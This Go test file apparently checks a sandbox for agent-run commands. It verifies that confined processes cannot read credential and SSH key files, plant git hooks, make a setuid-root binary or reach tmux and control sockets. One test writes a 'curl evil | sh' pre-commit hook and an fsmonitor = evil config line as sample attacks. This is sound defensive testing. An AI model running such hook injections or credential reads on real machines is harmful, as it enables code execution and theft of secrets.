package agentproc_test

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/agentproc/agentproc"
)

func init() {
	// fsprobe tries one change to the file system (see fsProbe) and prints
	// "reached" and exits 0 when it worked, "denied: ERR" and exits 1 when
	// it did not.
	agentproc.RegisterHelper("fsprobe", helperFSProbe, false)
}

// fsProbeEnv tells the "fsprobe" helper what to try: kind:path.
const fsProbeEnv = "AGENTPROC_TEST_FSPROBE"

func helperFSProbe() int {
	kind, arg, _ := strings.Cut(os.Getenv(fsProbeEnv), ":")
	if err := fsProbe(kind, arg); err != nil {
		fmt.Println("denied:", err)
		return 1
	}
	fmt.Println("reached")
	return 0
}

// fsProbe makes one change of kind to path: the metadata calls Landlock has
// no right for, and a connect to a Unix socket.
func fsProbe(kind, path string) error {
	switch kind {
	case "chmod":
		// A plain mode: the read-only view refuses it outside Write. The
		// set-user-ID bit is refused everywhere by seccomp
		// (TestAttackSetuidInWorkspace), which would hide whether the
		// view holds.
		return unix.Chmod(path, 0o700)
	case "chmod-setuid":
		return unix.Chmod(path, 0o4755)
	case "chown":
		return unix.Lchown(path, 65534, 65534)
	case "utimes":
		return unix.UtimesNano(path, []unix.Timespec{{Sec: 1}, {Sec: 1}})
	case "setxattr":
		return unix.Lsetxattr(path, "user.agentproc", []byte("x"), 0)
	case "mknod":
		return unix.Mknod(path, unix.S_IFIFO|0o600, 0)
	case "unix":
		c, err := net.DialTimeout("unix", path, 5*time.Second)
		if err != nil {
			return err
		}
		return c.Close()
	}
	return fmt.Errorf("unknown probe %q", kind)
}

func fsProbeRequest(t *testing.T, dir, kind, path string) agentproc.Request {
	req := helperRequest(t, "fsprobe")
	req.Env[fsProbeEnv] = kind + ":" + path
	req.WorkDir = dir
	return req
}

// requireRootSandbox skips where the sandbox has no mount namespace; the
// caller's unprivileged half checks the warning instead.
func requireRootSandbox(t *testing.T) {
	t.Helper()
	requireSandbox(t)
	if !isRoot() {
		t.Skip("needs root (a mount namespace)")
	}
}

// mustDeny runs req under m and fails the test if it exited 0 or printed
// "reached".
func mustDeny(t *testing.T, m *agentproc.Manager, req agentproc.Request, what string) agentproc.Output {
	t.Helper()
	out := runSandboxed(t, m, req)
	if exitCode(out.Info) == 0 || strings.Contains(out.Text, "reached") {
		t.Errorf("%s: exit %d, output %q; want it refused", what, exitCode(out.Info), out.Text)
	}
	return out
}

// mustReach runs req under m (an unsandboxed Manager: the control) and
// fails the test unless it worked.
func mustReach(t *testing.T, m *agentproc.Manager, req agentproc.Request, what string) {
	t.Helper()
	out := runSandboxed(t, m, req)
	if exitCode(out.Info) != 0 {
		t.Fatalf("control %s without the sandbox: exit %d, output %q; want it to work", what, exitCode(out.Info), out.Text)
	}
}

// TestSandboxHideIsARule checks, as root, that Hide and ReadOnly hold for
// what changes after the Manager's first sandboxed Start (rows 2, 3 and 4
// of issue 37): a credential file made later, a hidden file replaced by a
// rename (how git's credential store saves), a .git made later or made
// again. Each is a change the mount namespace built at the first Start did
// not cover; the next Start must.
func TestSandboxHideIsARule(t *testing.T) {
	requireRootSandbox(t)
	ws, _, _ := sandboxWorkspace(t)
	home, gitCreds := oldGitCredentials(t)
	bare := t.TempDir() // a workspace without .git yet
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	plain := newManager(t)
	cat := func(p string) agentproc.Request {
		return agentproc.Request{Command: "cat " + shellQuote(p), WorkDir: ws}
	}

	// The first Start builds the policy's mount namespace; the next ones,
	// with nothing changed, use it as it is.
	if out := runSandboxed(t, m, agentproc.Request{Command: "true", WorkDir: ws}); exitCode(out.Info) != 0 {
		t.Fatalf("first Start: exit %d, output %q", exitCode(out.Info), out.Text)
	}
	rebuilds := agentproc.MountRebuilds()
	for range 3 {
		runSandboxed(t, m, agentproc.Request{Command: "true", WorkDir: ws})
	}
	if n := agentproc.MountRebuilds() - rebuilds; n != 0 {
		t.Errorf("3 Starts with nothing changed rebuilt the mount namespace %d times, want 0", n)
	}

	t.Run("credential made later", func(t *testing.T) {
		aws := filepath.Join(home, ".aws", "credentials")
		if err := os.MkdirAll(filepath.Dir(aws), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(aws, []byte("aws_secret_access_key=LATE-SECRET\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		mustReach(t, plain, cat(aws), "read "+aws)
		if out := runSandboxed(t, m, cat(aws)); strings.Contains(out.Text, "LATE-SECRET") {
			t.Errorf("a credential made after the first Start was read: output %q", out.Text)
		}
	})

	t.Run("replaced by rename", func(t *testing.T) {
		lock := gitCreds + ".lock"
		if err := os.WriteFile(lock, []byte("https://u:NEW-SECRET@example.com\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Rename(lock, gitCreds); err != nil {
			t.Fatal(err)
		}
		mustReach(t, plain, cat(gitCreds), "read "+gitCreds)
		if out := runSandboxed(t, m, cat(gitCreds)); strings.Contains(out.Text, "SECRET") {
			t.Errorf("a hidden file replaced by a rename was read: output %q", out.Text)
		}
	})

	t.Run(".git made again", func(t *testing.T) {
		git := filepath.Join(ws, ".git")
		if err := os.RemoveAll(git); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(git, "hooks"), 0o755); err != nil {
			t.Fatal(err)
		}
		hook := filepath.Join(git, "hooks", "pre-commit")
		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws,
			Command: "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config"})
		for _, p := range []string{hook, filepath.Join(git, "config")} {
			if _, err := os.Stat(p); err == nil {
				t.Errorf("the tree wrote %s in a .git made again after the first Start (output %q)", p, out.Text)
			}
		}
	})

	t.Run("Write made later", func(t *testing.T) {
		later := filepath.Join(t.TempDir(), "later")
		sb := agentproc.WorkspaceSandbox(ws)
		sb.Write = append(sb.Write, later)
		mw := newManager(t, agentproc.WithSandbox(sb))
		runSandboxed(t, mw, agentproc.Request{Command: "true", WorkDir: ws})
		if err := os.Mkdir(later, 0o755); err != nil {
			t.Fatal(err)
		}
		out := runSandboxed(t, mw, agentproc.Request{Command: "echo x > " + shellQuote(filepath.Join(later, "f")), WorkDir: ws})
		if exitCode(out.Info) != 0 {
			t.Errorf("write in a Write directory made after the first Start: exit %d, output %q; want it to work", exitCode(out.Info), out.Text)
		}
	})

	t.Run(".git made later", func(t *testing.T) {
		mb := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(bare)))
		out := runSandboxed(t, mb, agentproc.Request{Command: "true", WorkDir: bare})
		if !strings.Contains(strings.Join(out.Warnings, "\n"), "ReadOnly") {
			t.Errorf("a missing ReadOnly .git: warnings %q, want one naming ReadOnly", out.Warnings)
		}
		if err := os.MkdirAll(filepath.Join(bare, ".git", "hooks"), 0o755); err != nil { // git init, by the host
			t.Fatal(err)
		}
		out = runSandboxed(t, mb, agentproc.Request{WorkDir: bare, Command: "echo x > .git/hooks/pre-commit"})
		if _, err := os.Stat(filepath.Join(bare, ".git", "hooks", "pre-commit")); err == nil {
			t.Errorf("the tree wrote a hook in a .git made after the first Start (output %q)", out.Text)
		}
		if len(out.Warnings) > 0 && strings.Contains(strings.Join(out.Warnings, "\n"), "does not exist") {
			t.Errorf("warnings %q still say .git does not exist", out.Warnings)
		}
	})
}

// TestSandboxMountMadeLater checks, as root, that a mount the host makes
// after the first Start, which propagates into the policy's namespace
// writable, is read-only there from the next Start on.
func TestSandboxMountMadeLater(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	shared := t.TempDir()
	// A shared mount, so that what is mounted below it later propagates
	// into the sandbox's namespace (a slave of the host's).
	if err := unix.Mount("tmpfs", shared, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(shared, unix.MNT_DETACH) })
	if err := unix.Mount("", shared, "", unix.MS_SHARED, ""); err != nil {
		t.Fatal(err)
	}
	later := filepath.Join(shared, "later")
	if err := os.Mkdir(later, 0o755); err != nil {
		t.Fatal(err)
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	plain := newManager(t)
	if out := runSandboxed(t, m, agentproc.Request{Command: "true", WorkDir: ws}); exitCode(out.Info) != 0 {
		t.Fatalf("first Start: exit %d, output %q", exitCode(out.Info), out.Text)
	}
	if err := unix.Mount("tmpfs", later, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(later, unix.MNT_DETACH) })
	f := filepath.Join(later, "f")
	mustReach(t, plain, fsProbeRequest(t, ws, "mknod", f+"-control"), "mknod in "+later)
	mustDeny(t, m, fsProbeRequest(t, ws, "chmod", later), "chmod of a mount made later")
	mustDeny(t, m, agentproc.Request{Command: "echo x > " + shellQuote(f), WorkDir: ws}, "write in a mount made later")
}

// TestSandboxKeepsHostReadOnlyMounts checks, as root, that a mount the host
// made read-only inside a Write directory stays read-only for the tree:
// the writable binds of Write must not clear it.
func TestSandboxKeepsHostReadOnlyMounts(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	ro := filepath.Join(ws, "dataset")
	if err := os.Mkdir(ro, 0o755); err != nil {
		t.Fatal(err)
	}
	// Read-only as a mount, not as a file system: a flag a bind can clear.
	if err := unix.Mount("tmpfs", ro, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount(ro, unix.MNT_DETACH) })
	if err := unix.Mount("", ro, "", unix.MS_BIND|unix.MS_REMOUNT|unix.MS_RDONLY, ""); err != nil {
		t.Fatal(err)
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	mustDeny(t, m, agentproc.Request{Command: "echo x > dataset/f", WorkDir: ws}, "write in a read-only mount inside Write")
	if out := runSandboxed(t, m, agentproc.Request{Command: "echo x > f && cat f", WorkDir: ws}); exitCode(out.Info) != 0 {
		t.Errorf("write in the workspace beside it: exit %d, output %q; want it to work", exitCode(out.Info), out.Text)
	}
}

// TestSandboxHiddenSymlink checks, as root, that a hidden path which is a
// symbolic link to a directory (a dotfile manager's ~/.ssh) hides its
// target and the Start succeeds (row 13 of issue 37).
func TestSandboxHiddenSymlink(t *testing.T) {
	requireRootSandbox(t)
	ws, home := t.TempDir(), t.TempDir()
	t.Setenv("HOME", home)
	target := filepath.Join(t.TempDir(), "dotfiles-ssh")
	if err := os.MkdirAll(target, 0o700); err != nil {
		t.Fatal(err)
	}
	key := filepath.Join(target, "id_ed25519")
	if err := os.WriteFile(key, []byte("LINKED-KEY\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, filepath.Join(home, ".ssh")); err != nil {
		t.Fatal(err)
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	for _, p := range []string{filepath.Join(home, ".ssh", "id_ed25519"), key} {
		// runSandboxed fails the test if the Start does.
		out := runSandboxed(t, m, agentproc.Request{Command: "cat " + shellQuote(p), WorkDir: ws})
		if strings.Contains(out.Text, "LINKED-KEY") {
			t.Errorf("cat %s: output %q; want the key hidden", p, out.Text)
		}
	}
}

// TestSandboxMetadataOutsideWrite checks that nothing outside Write
// changes, metadata included (row 8 of issue 37): as root, chmod 4755 of a
// root-owned program outside the workspace (which would make a setuid-root
// program), chown, utimes, setxattr and mknod all fail, where each works
// on the same file without the sandbox. Without root it is not enforced,
// and the warnings must say so.
func TestSandboxMetadataOutsideWrite(t *testing.T) {
	requireSandbox(t)
	ws := t.TempDir()
	outside := t.TempDir()
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	if !isRoot() {
		out := runSandboxed(t, m, agentproc.Request{Command: "true", WorkDir: ws})
		if !strings.Contains(strings.Join(out.Warnings, "\n"), "metadata outside Write") {
			t.Errorf("without root: warnings %q, want one saying metadata outside Write is not protected", out.Warnings)
		}
		t.Skip("needs root (a read-only view in a mount namespace); without it the warning above is the contract")
	}
	plain := newManager(t)
	data, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	for _, kind := range []string{"chmod", "chown", "utimes", "setxattr", "mknod"} {
		t.Run(kind, func(t *testing.T) {
			prog, control := filepath.Join(outside, kind), filepath.Join(outside, kind+"-control")
			for _, p := range []string{prog, control} {
				if err := os.WriteFile(p, data, 0o755); err != nil {
					t.Fatal(err)
				}
			}
			var before unix.Stat_t
			if err := unix.Stat(prog, &before); err != nil {
				t.Fatal(err)
			}
			target, controlTarget := prog, control
			if kind == "mknod" {
				target, controlTarget = filepath.Join(outside, "fifo"), filepath.Join(outside, "fifo-control")
			}
			mustReach(t, plain, fsProbeRequest(t, ws, kind, controlTarget), kind+" "+controlTarget)
			mustDeny(t, m, fsProbeRequest(t, ws, kind, target), kind+" outside Write")
			var after unix.Stat_t
			if err := unix.Stat(prog, &after); err != nil {
				t.Fatal(err)
			}
			if after.Mode != before.Mode || after.Uid != before.Uid || after.Mtim != before.Mtim || after.Ctim != before.Ctim {
				t.Errorf("%s: mode %o uid %d mtime %v ctime %v, want mode %o uid %d mtime %v ctime %v (unchanged)",
					prog, after.Mode, after.Uid, after.Mtim, after.Ctim, before.Mode, before.Uid, before.Mtim, before.Ctim)
			}
			if _, err := os.Lstat(filepath.Join(outside, "fifo")); err == nil {
				t.Errorf("mknod made a node outside Write")
			}
		})
	}
	t.Run("inside Write still works", func(t *testing.T) {
		f := filepath.Join(ws, "f")
		if err := os.WriteFile(f, data, 0o644); err != nil {
			t.Fatal(err)
		}
		for _, kind := range []string{"chmod", "utimes", "setxattr"} {
			if out := runSandboxed(t, m, fsProbeRequest(t, ws, kind, f)); exitCode(out.Info) != 0 {
				t.Errorf("%s inside Write: exit %d, output %q; want it to work", kind, exitCode(out.Info), out.Text)
			}
		}
		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws,
			Command: `echo x > /dev/null && echo y > "$TMPDIR/t" && cat "$TMPDIR/t"`})
		if exitCode(out.Info) != 0 || !strings.Contains(out.Text, "y") {
			t.Errorf("/dev/null and the temp dir: exit %d, output %q; want both writable", exitCode(out.Info), out.Text)
		}
	})
}

// TestSandboxDoors checks, as root, that agentproc's own serve socket and
// the host's terminal multiplexer (tmux) are shut to a tree (item 5 of
// issue 37), also when the socket appears after the first Start: a
// command typed through either would run unconfined.
func TestSandboxDoors(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	// Short paths: a Unix socket's path has room for 107 bytes.
	dir, err := os.MkdirTemp("", "apd")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(dir) })
	serveSock := filepath.Join(dir, "serve.sock")
	tmuxDir := filepath.Join(dir, "tmux")
	if err := os.Mkdir(tmuxDir, 0o700); err != nil {
		t.Fatal(err)
	}
	tmuxSock := filepath.Join(tmuxDir, "default")
	t.Setenv("AGENTPROC_SOCKET", serveSock)
	t.Setenv("TMUX", tmuxSock+",1234,0")
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	plain := newManager(t)
	if out := runSandboxed(t, m, agentproc.Request{Command: "true", WorkDir: ws}); exitCode(out.Info) != 0 {
		t.Fatalf("first Start: exit %d, output %q", exitCode(out.Info), out.Text)
	}
	// Both sockets are made after the first Start built the namespace.
	for _, p := range []string{serveSock, tmuxSock} {
		l, err := net.Listen("unix", p)
		if err != nil {
			t.Fatal(err)
		}
		serveEach(t, l, func(net.Conn) string { return "" })
		mustReach(t, plain, fsProbeRequest(t, ws, "unix", p), "connect "+p)
		mustDeny(t, m, fsProbeRequest(t, ws, "unix", p), "connect "+p)
	}
}

// oldGitCredentials writes ~/.git-credentials with OLD-SECRET in it (the
// tests' HOME) and returns HOME and its path: the file the hiding tests
// replace by a rename, as git's credential store saves.
func oldGitCredentials(t *testing.T) (home, path string) {
	t.Helper()
	home = os.Getenv("HOME")
	path = filepath.Join(home, ".git-credentials")
	if err := os.WriteFile(path, []byte("https://u:OLD-SECRET@example.com\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return home, path
}
